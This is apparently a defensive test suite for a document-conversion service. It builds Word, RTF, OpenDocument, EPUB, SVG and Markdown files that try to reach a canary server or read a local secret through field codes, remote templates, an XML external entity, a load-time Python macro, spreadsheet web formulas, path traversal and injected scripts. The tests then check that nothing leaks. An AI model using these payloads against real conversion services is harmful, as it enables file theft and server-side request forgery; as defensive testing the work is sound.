import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { archive } from "./archive.ts";
import { type Canary, openCanary, SECRET } from "./canary.ts";
import { type OpenService, openService } from "./open-service.ts";
import { pdfText } from "./pdf-text.ts";
import { paragraph, picture, wordDocument } from "./word-document.ts";

// Without a network namespace, so that what LibreOffice and Pandoc themselves let through would show.
let service: OpenService;
let canary: Canary;

beforeAll(async () => {
	canary = await openCanary();
	service = await openService({ CONVERT_NETWORK_NAMESPACE: "off" });
});
afterAll(async () => {
	await service[Symbol.asyncDispose]();
	await canary[Symbol.asyncDispose]();
});

type Attack = (canary: Canary) => Uint8Array | string | Promise<Uint8Array>;

const field = (instruction: string) =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r>
	<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const before = paragraph("Visible text");

const documents: Record<string, Attack> = {
	"a Word picture of a web address": ({ url }) =>
		wordDocument({
			body: `${before}<w:p>${picture("x", "link")}</w:p>`,
			relations: { x: ["image", `${url}/x.png`] },
		}),
	"a Word picture of the local disk": ({ fileUrl }) =>
		wordDocument({
			body: `${before}<w:p>${picture("x", "link")}${picture("x")}</w:p>`,
			relations: { x: ["image", fileUrl] },
		}),
	"a Word template elsewhere": ({ url }) =>
		wordDocument({
			body: before,
			settings: '<w:attachedTemplate r:id="t"/>',
			settingsRelations: { t: ["attachedTemplate", `${url}/t.dotm`] },
		}),
	"Word fields that include": ({ url, fileUrl, file }) =>
		wordDocument({
			body:
				before +
				field(`INCLUDETEXT "${fileUrl}"`) +
				field(`INCLUDETEXT "${file}"`) +
				field(`INCLUDEPICTURE "${url}/field.png" \\d`) +
				field(`DDEAUTO "${url}/dde" x y`) +
				field(`LINK Word.Document.8 "${fileUrl}" "" \\a`),
		}),
	"a Word object elsewhere": ({ url }) =>
		wordDocument({
			body: `${before}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>`,
			relations: { o: ["oleObject", `${url}/o.docx`] },
		}),
	"a Word document that includes another": ({ url, fileUrl }) =>
		wordDocument({
			body: `${before}<w:altChunk r:id="a"/><w:altChunk r:id="b"/><w:subDoc r:id="a"/>`,
			relations: { a: ["aFChunk", fileUrl], b: ["aFChunk", `${url}/chunk.html`] },
		}),
	"a Word chunk of HTML": ({ url, fileUrl }) =>
		wordDocument({
			body: `${before}<w:altChunk r:id="a"/>`,
			relations: { a: ["aFChunk", "chunk.html"] },
			parts: {
				"word/chunk.html": `<img src="${url}/x.png"><iframe src="${fileUrl}"></iframe><link rel="stylesheet" href="${url}/s.css">`,
			},
		}),
	"an entity of the local disk": ({ fileUrl }) =>
		archive({
			"[Content_Types].xml":
				'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
			"_rels/.rels":
				'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="m" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
			"word/document.xml": `<!DOCTYPE x [<!ENTITY e SYSTEM "${fileUrl}">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Visible text &e;</w:t></w:r></w:p></w:body></w:document>`,
		}),
	"an OpenDocument section of the local disk": ({ url, fileUrl }) =>
		openDocument(
			"text",
			`<office:text><text:p>Visible text</text:p>
			<text:section text:name="a"><text:section-source xlink:href="${fileUrl}" text:filter-name="Text"/><text:p/></text:section>
			<text:section text:name="b"><text:section-source xlink:href="${url}/section.odt"/><text:p/></text:section>
			<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="${url}/draw.png" xlink:actuate="onLoad"/></draw:frame>
			<draw:frame svg:width="1cm" svg:height="1cm"><draw:object xlink:href="${fileUrl}" xlink:actuate="onLoad"/></draw:frame>
			<draw:frame svg:width="1cm" svg:height="1cm"><draw:floating-frame xlink:href="${url}/floating" xlink:actuate="onLoad"/></draw:frame>
			<draw:frame svg:width="1cm" svg:height="1cm"><draw:plugin xlink:href="${url}/plugin.mp4" draw:mime-type="video/mp4"/></draw:frame></text:p></office:text>`,
		),
	"an OpenDocument event": ({ url }) =>
		openDocument(
			"text",
			`<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
			xlink:href="vnd.sun.star.script:x.py$main?language=Python&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>
			<office:text><text:p>Visible text</text:p></office:text>`,
			{
				"Scripts/python/x.py": `import urllib.request\ndef main(*a):\n    urllib.request.urlopen("${url}/macro")\n`,
			},
		),
	"a sheet of another sheet": ({ url, fileUrl }) =>
		openDocument(
			"spreadsheet",
			`<office:spreadsheet><table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p>Visible text</text:p></table:table-cell>
			<table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/web&quot;)" office:value-type="string"/>
			<table:table-cell table:formula="of:='${fileUrl}'#$Sheet1.A1" office:value-type="string"/></table:table-row></table:table>
			<table:table table:name="b"><table:table-source xlink:href="${url}/sheet.ods" table:mode="copy-all"/><table:table-row/></table:table></office:spreadsheet>`,
		),
	"RTF that includes": ({ url, fileUrl, file }) =>
		`{\\rtf1\\ansi Visible text {\\*\\template ${url}/t.dot}
		{\\field{\\*\\fldinst INCLUDETEXT "${fileUrl}"}{\\fldrslt old}}
		{\\field{\\*\\fldinst INCLUDETEXT "${file}" \\\\c AnsiText}{\\fldrslt old}}
		{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/r.png" \\\\d}{\\fldrslt old}}
		{\\object\\objlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 00}}}`,
	"an EPUB of other places": ({ url, fileUrl }) =>
		archive({
			mimetype: "application/epub+zip",
			"META-INF/container.xml":
				'<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
			"c.opf": `<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T</dc:title><dc:identifier id="i">i</dc:identifier><dc:language>en</dc:language></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`,
			"a.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title><link rel="stylesheet" href="${url}/e.css"/></head><body><p>Visible text</p><img src="${url}/e.png"/><img src="${fileUrl}"/><img src="../../../../etc/hostname"/></body></html>`,
		}),
	"an SVG": ({ url, fileUrl }) =>
		`<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text y="20">Visible text</text><image href="${url}/s.png"/><image href="${fileUrl}"/><script>fetch("${url}/svg")</script><foreignObject><iframe src="${fileUrl}"/></foreignObject></svg>`,
	Markdown: ({ url, fileUrl, file }) =>
		`Visible text ![a](${url}/m.png) ![b](${fileUrl}) ![c](${file})\n\n<img src="${url}/raw.png">\n<script>fetch("${url}/md")</script>\n`,
	"Markdown with a diagram": ({ url }) =>
		`Visible text\n\n\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["<img src='${url}/mm.png'>"] --> B\nclick B "javascript:fetch('${url}/click')"\n\`\`\`\n`,
};

async function openDocument(
	kind: "text" | "spreadsheet",
	content: string,
	parts: Readonly<Record<string, string>> = {},
): Promise<Uint8Array> {
	const mimetype = `application/vnd.oasis.opendocument.${kind}`;
	const names = ["office", "text", "table", "draw", "script"].map(
		(name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`,
	);
	const all = `${names.join(" ")} xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"`;
	const body = content.includes("<office:scripts>")
		? content.replace("</office:scripts>", "</office:scripts><office:body>")
		: `<office:body>${content}`;
	const entries = ["content.xml", ...Object.keys(parts)].map(
		(name) => `<manifest:file-entry manifest:full-path="${name}" manifest:media-type=""/>`,
	);
	return archive({
		mimetype,
		"content.xml": `<office:document-content ${all}>${body}</office:body></office:document-content>`,
		...parts,
		"META-INF/manifest.xml": `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>${entries.join("")}</manifest:manifest>`,
	});
}

describe.each(["pdf", "html", "md", "text"] as const)("to=%s reaches nothing outside by", (to) => {
	test.each(Object.entries(documents))("%s", async (_name, attack) => {
		const response = await service.post(`/convert?to=${to}`, await attack(canary));
		const body = new Uint8Array(await response.arrayBuffer());
		// Some are no pair, such as a picture to Markdown, and an engine may refuse what is broken on purpose.
		expect([200, 415, 422]).toContain(response.status);
		const text = to === "pdf" && response.status === 200 ? pdfText(body) : Buffer.from(body).toString();
		if (response.status === 200) expect(text).toContain("Visible");
		expect(text).not.toContain(SECRET);
		expect(Buffer.from(body).includes(Buffer.from(SECRET).toString("base64").slice(0, 24))).toBe(false);
		expect(canary.hits).toEqual([]);
		expect(await service.leftovers()).toEqual([]);
	});
});

test("the service is whole after all of them", async () => {
	expect((await service.health()).status).toBe("ok");
	expect(service.log().filter(({ level }) => level > 40)).toEqual([]);
});
